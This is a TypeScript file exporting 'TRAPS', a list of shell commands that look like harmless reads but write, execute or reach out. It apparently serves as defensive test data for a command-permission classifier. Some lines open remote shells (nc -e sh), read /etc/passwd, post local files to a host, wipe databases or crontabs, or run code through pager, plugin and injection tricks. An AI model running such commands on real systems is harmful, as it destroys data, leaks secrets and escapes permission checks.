/** Calls that look like reads. */
export const TRAPS = String.raw`
git branch -D old
git branch new
git branch -m old new
git branch --edit-description
git branch --set-upstream-to=origin/x
git tag v1
git tag -d v1
git diff --output=file
git log -p --output file
git show --output=file HEAD
git stash
git stash show --output=file
git stash drop
git remote add x y
git remote update
git config user.name x
git config --unset user.name
git config -e
git -c core.pager='touch x' log
git -c alias.st=!touch\ x st
git --exec-path=/tmp status
git diff --ext-diff
git show --textconv
git log --show-signature
git grep -Otouch x
git ls-remote ext::touch\ x
git ls-remote --upload-pack=touch x
git log -p --submodule=diff
git reflog expire --all
git worktree add x
git submodule update
git checkout file
git fetch
git clean -f
git unheard-of-alias
find . -delete
find . -name x -exec rm {} ;
find . -fprint out
find . -okdir rm {} ;
find . -name x -o -fls out
find -- -delete
sed -i s/a/b/ file
sed -ni p file
sed --in-place=.bak s/a/b/ file
sed 's/a/b/w out' file
sed -n '/x/w out' file
sed 1e file
sed 's/x/touch y/e' file
sed -f script file
sed -n -e p -e 'w out' file
awk '{print > "out"}' file
awk 'BEGIN{system("touch x")}'
awk '{print | "sh"}' file
awk -f script file
awk 'BEGIN{ARGV[1]="/etc/passwd"}1' file
awk -i inplace 1 file
sort -o file file
sort -uofile file
sort --output=file file
sort --compress-program=./x file
uniq in out
date -s 12:00
date 01010000
hostname evil
tar -xf a.tar
tar xf a.tar
tar -tf a.tar --to-command=sh
tar -tf h:a.tar
tar -tf a.tar -I ./x
tar -tf a.tar --checkpoint-action=exec=sh
curl -o file https://h
curl -O https://h/f
curl -d x=1 https://h
curl -X DELETE https://h
curl -XPOST https://h
curl --json '{}' https://h
curl -T file https://h
curl -c jar https://h
curl -K config https://h
curl -D headers https://h
curl --trace log https://h
curl -H 'X-HTTP-Method-Override: DELETE' https://h
curl -w '%output{file}x' https://h
curl -sSLo file https://h
curl -G -d @/etc/hosts https://h
curl -G -d a=1 -X POST https://h
curl -G --data-urlencode a@/etc/hosts https://h
curl -G --data-urlencode @/etc/hosts https://h
curl -G -d a=1 -F b=2 https://h
curl -G -d a=1 -o file https://h
curl -G --json '{}' https://h
curl --ge -d a=1 https://h
curl --data-raw @x https://h
conda run -n x ls
wget https://h
wget -O file https://h
wget -qO- --post-data=x https://h
npm audit fix
npm version patch
npm run list
npm test
npm ls --unheard
npm config set x y
npm exec x
npm pkg set a=b
node --check -r ./x file.js
node -p 1
node file.js --version
node file.js -h
node file.js --check x
python3 file.py -h
python3 file.py --version
npx x --version
npx -y x --help
ssh host reboot -V
pytest --help
pytest --version
zip a.zip f -v
gcc a.c -v
rsync -h a b
eslint .
prettier --check .
yarn list
terraform validate
cargo metadata
cargo --version
cargo fmt --check
pnpm list
python3 -c 1
python3 -m json.tool a b
make -n
make -q
tsc
tsc --noEmit --generateTrace out
tsc --noEmit @options
tsc --noEmit
gcc -E a.c -o out
gcc -fsyntax-only -fplugin=./x a.c
rg --pre ./x y
rg --hostname-bin ./x y
jq . file --unheard
jq -n 'import "x" as $x {search:"/etc"}; $x'
yq -i .a file
yq 'load("/etc/passwd")' file
yq -s .a file
docker logs x --unheard
docker -H ssh://h ps
docker --config=c info
docker system prune
docker exec x ls
kubectl get pods --kubeconfig evil
kubectl delete pod x
kubectl exec x ls
gh api repos/a/b -X PATCH
gh api repos/a/b -f name=x
gh api graphql
gh pr view --web
psql -c 'delete from a'
psql -c 'select pg_terminate_backend(1)'
psql -c 'select 1' -c 'drop table a'
psql -h db.example.com -c 'select 1'
psql --host=db.example.com -l
psql -d 'host=db.example.com' -c 'select 1'
psql -d postgres://db.example.com/a -c 'select 1'
psql -c 'select 1' 'host=db.example.com dbname=a'
psql -c 'select 1' postgresql://db.example.com/a
redis-cli -h cache.example.com get x
redis-cli -hcache.example.com ping
redis-cli -u redis://cache.example.com get x
redis-cli -u redis://a@localhost@cache.example.com get x
glab issue list -R https://git.example.com/a/b
glab issue list -R git.example.com/a/b
aws s3 ls --endpoint-url https://s3.example.com
aws s3 ls --endpoint-url=https://s3.amazonaws.com.example.com
psql -c 'select 1; drop table a'
psql -c 'select * into b from a'
psql -o out -c 'select 1'
sqlite3 a.db 'select 1'
sqlite3 -readonly a.db .shell
sqlite3 -readonly a.db "select writefile('a','b')"
sqlite3 -readonly a.db 'select WriteFile(1,2)'
sqlite3 -readonly a.db 'select "writefile"(1,2)'
sqlite3 -readonly a.db 'select readfile(1)'
sqlite3 -readonly a.db 'select name from fsdir where path=1'
sqlite3 -readonly a.db 'vacuum into x'
sqlite3 -readonly a.db 'select 1; vacuum into x'
redis-cli flushall
redis-cli getdel x
redis-cli eval x 0
systemctl restart x
systemctl edit x
systemctl -H h status
journalctl --vacuum-size=1M
journalctl --rotate
apt-get install x
apt-get -o APT::Update::Pre-Invoke::=sh list
ss -K
less +!touch\ x file
ssh host ls
rsync -av a b
rsync -avn -e ./x a b
rsync -avn h:a b
go env -w X=y
cargo fmt
cargo check
pip list --log file
terraform plan
aws s3api get-object --bucket b out
aws --unheard ec2 describe-instances
unzip a.zip
zip a.zip f
ruff check --fix
ruff check
eslint --fix .
eslint -o out .
eslint -f ./x.js .
prettier --write .
git reflog drop --all
git reflog write x
git config edit
git config set user.name x
git config unset user.name
git --paginate log
git archive -o x.tar HEAD
git cat-file --filters HEAD:a.txt
git cat-file --textconv HEAD:a.txt
git update-index --refresh
git symbolic-ref HEAD refs/heads/x
git hash-object -w a.txt
git bisect run ./x
git submodule foreach ls
git difftool
git credential fill
git bundle create x HEAD
git fsck --lost-found
npm view user/repo
npm view git+https://h/x.git
npm view x@git+ssh://h/y
npm owner ls user/repo
npm help install
npm ls --node-options=--require=./x
pnpm ls
pnpm root
pnpm config get registry
cargo --version
cargo search x
tsc --noEmit
tsc --noEmit -p .
ruff check .
ruff format --check .
curl --proto-default gopher h:6379/_FLUSHALL
curl --libcurl out.c https://h
curl --etag-save x https://h
curl --stderr x https://h
docker --config d compose ps
cmake --system-information
cmake -E rm x
awk '{print ";" > "out"}' a.txt
awk 'NR>1{print $1 > "out"}' a.txt
awk -E x
tar tIf ./x a.tar
tar tf h:a.tar
tar -tvf a.tar --index-file=out
tar --info-script=./x -tf a.tar
xxd a.txt out
xxd -r a out
tree -o out
tree -R -L 2
env FOO=1 ls
env -S 'touch x'
bash -c ls
bash --version -c 'touch x'
ip netns exec x ls
ip -b file
sqlite3 -readonly a.db '.output x'
sqlite3 -readonly -init x a.db 'select 1'
psql -c 'select 1 for update'
psql -c 'explain analyze delete from x'
redis-cli xreadgroup group g c streams x 1
redis-cli --rdb x
gcc -fsyntax-only -wrapper ./x,a a.c
gcc -fsyntax-only -MD a.c
find . -fprintf out %p
rsync -avn --log-file=x a b
journalctl --cursor-file=x
kubectl get --raw /x
kubectl cluster-info dump --output-directory=x
helm get values x --post-renderer ./y
gzip a.txt
file -C -m x
man -P sh ls
zip -T -TT ./x a.zip
go list -toolexec=./x ./...
prettier --no-config --plugin=./x .
prettier --no-config --check a.js
node --check --import ./evil.js x.js
cmake --help-full out
cmake --help-command add_library out
tmux ls ; kill-server
tmux ls -F '#(touch x)'
tmux ls -F '#{E:#{l:#}(touch x)}'
tmux has-session -t 'x;' -a
sqlite3 -readonly a.db 'select writefile/**/(1,2)'
psql -c 'select "pg_terminate_backend"(1)'
psql -c 'select pg_terminate_backend/**/(1)'
psql -c 'select evil.lower(1)'
psql -c 'select * Into b from a'
psql -c 'select 1 For Update'
ffprobe http://h/x
ffprobe -i file:/etc/passwd
tsc --listFilesOnly false a.ts
tsc -v null a.ts
yq e 'load("/etc/passwd")' a.yaml
yq 'eval(.a)' a.yaml
wget -qO- --header 'X-HTTP-METHOD-OVERRIDE: DELETE' https://h
gh api repos/a/b -H 'X-HTTP-METHOD-OVERRIDE: PATCH'
curl -L --proto-redir =all https://h
git commit --dry-run -a
npm ls --cache=src
fd -x rm
fdfind one -X rm
fd one -l
openssl x509 -in a.pem -out b.pem
openssl x509 -in a.pem -engine x
openssl genrsa 2048
openssl req -new -key a.pem
openssl dgst -sign a.pem a.txt
openssl s_client -connect h:1 -sess_out f
openssl enc -d -in a
xargs rm
xargs -I{} sh -c {}
timeout 5 rm x
uv run a.py
uv pip list
uv sync
python3 -c 'print(1)'
python3 -m json.tool a.json
npx cowsay
npx --yes tsc --version
conda run -n x python a.py
conda install x
brew install x
brew info x
podman run x
podman system migrate
podman image rm x
docker compose exec web ls
docker compose -f a.yml up -d
docker compose -f a.yml down
docker compose run web ls
podman compose up
gcloud compute instances delete x
gcloud compute instances list --impersonate-service-account x
gcloud compute ssh x
az vm delete -n x
az rest --method get --url x
az storage account keys list -n x
glab mr merge 1
glab api x
gh run list --web
gh issue list -w
gh repo view --web
helm template x ./chart --post-renderer ./x
helm template x ./chart --output-dir y
helm upgrade x y
curl -D headers.txt https://h
aws logs start-query --log-group-name x
aws sqs receive-message --queue-url x
shuf -o out a.txt
split -l 1 a.txt
split --filter=sh a.txt
csplit a.txt 1
iconv -f a -t b -o out a.txt
mktemp
mktemp -u -p /x
install a b
chgrp x a
strings @opts
nm --plugin ./x.so a
objdump @opts
size @opts
ldd ./a.out
getent -s evil passwd
mount a b
mount -a
mount -o remount,rw
mount --bind a b
umount a
dmesg -C
dmesg -c
dmesg -n 1
lspci -q
fuser -k a.txt
fuser -ki 80/tcp
ifconfig eth0 down
ifconfig eth0 10.0.0.1
route add default gw x
arp -d x
arp -s x y
sysctl -w a=1
sysctl a=1
sysctl -p
crontab
crontab -r
crontab -e
crontab file
hostnamectl hostname evil
hostnamectl set-hostname evil
hostnamectl -H h status
timedatectl set-time 0
loginctl kill-session 1
apt-mark hold x
iostat -o /x
dpkg-query --admindir=x -l
xz a.txt
xz -d a.txt
xz -k a.txt
xz -c --files=list
xz -l a.txt -d
xz -t -z a.txt
zstd -l a.txt -d
zstd -tz a.txt
bzip2 -t a.txt -d
bzip2 a.txt
bzip2 -dk a.txt
zstd a.txt
zstd -c a.txt -o out
zstd -l --rm a.txt
zstd -dc --output-dir-flat=d a.zst
zstdcat a.zst -o out
7z x a.7z
7z l @list
7z l -i@list a.7z
cpio -i -F a.cpio
cpio -t -F h:a.cpio
cpio -t --rsh-command=./x
cpio -o
zgrep --pre ./x one a.gz
dig -f list
dig -k key example.org
nc -l 80
nc host 80
nc -e sh host 80
nc -z -e sh host 80
ping -f example.org
ssh-keygen -t ed25519 -N x -f k
ssh-keygen -R host
ssh-keygen -l -D ./x.so
ssh-keygen -H -F host
ssh-add
ssh-add -D
ssh-add -s ./x.so
perl -c a.pl
perl -e 1
perl -i -pe s/a/b/ a.txt
perl -pi -e s/a/b/ a.txt
perl a.pl -v
ruby -c a.rb
ruby -e 1
ruby a.rb --version
ruby -v -r ./x
gem install x
gem list --config-file x
bundle exec x
bundle list
php a.php -v
php -r 1
php -l a.php b
php -d extension=./x.so -v
composer show
composer install
java -jar a.jar -version
java -javaagent:x.jar -version
java Main --version
javac A.java
javac -version A.java
javap -J-javaagent:x A
javap @opts
jar xf a.jar
jar cf a.jar b
mvn -v
mvn test
gradle tasks
gh-axi issue create --title x
gh-axi issue list --repo h/a/b
gh-axi issue list --hostname evil.example
gh-axi setup hooks
gh-axi api graphql
gh-axi run download 1
agent-browser open https://h
agent-browser snapshot
chrome-devtools take-snapshot
shfmt -w a.sh
black a.py
black --check --required-version x --nope .
mypy .
mypy --version .
mypy --install-types .
flake8 .
flake8 --version
pylint a.py
isort --check .
gofmt -w a.go
gofmt -l -cpuprofile out a.go
clang-format -i a.c
pandoc a.md -o a.html
pandoc -t ./x.lua a.md
pandoc -f x.lua a.md
pandoc --filter ./x a.md
pandoc -d defaults a.md
pandoc https://h/a.md
xmllint --noent a.xml
xmllint --output out a.xml
xmllint --shell a.xml
xmllint --valid a.xml
xmllint http://h/a.xml
dot -Tsvg -o out a.dot
dot -Tsvg -O a.dot
dot -c
pdftotext a.pdf
pdftotext a.pdf out.txt
batcat --pager ./x a.txt
bat --paging=always a.txt
bat cache --build
fzf
fzf --filter x --preview ./x
fzf --filter x --bind 'start:execute(x)'
svn commit -m x
svn update
svn diff
svn diff --internal-diff --diff-cmd ./x
svn log svn+x://h/r
svn status --config-option config:tunnels:x=y
mysql -e 'delete from a'
mysql -e 'select load_file(1)'
mysql -e 'select 1 into outfile x'
mysql -e 'select 1; drop table a'
mysql -e '\! touch x'
mysql -e 'select 1 /*! into outfile x */'
mysql -e 'select sleep/**/(1)'
mysql -h db.example -e 'select 1'
mysql --tee=out -e 'select 1'
mysql --pager=./x -e 'select 1'
mysql --plugin-dir=. -e 'select 1'
strace ls -V
strace -o out ls
gdb --batch -ex run a.out
gdb a.out --version
valgrind ./a.out --version
ninja
ninja -n
ninja -t clean --version
poetry show
poetry install
rustc a.rs
rustc --version
rustup show
rustup update
deno run a.ts --version
deno -V a.ts
deno fmt
bun run x --version
bun a.ts -v
bun install
biome check --write .
biome check .
mocha --version
tsx a.ts --version
vercel
vercel ls
vercel deploy
wrangler whoami
wrangler deploy
nginx
nginx -t
nginx -s stop
useradd x
userdel x
passwd x
su -c ls
`
  .trim()
  .split('\n')
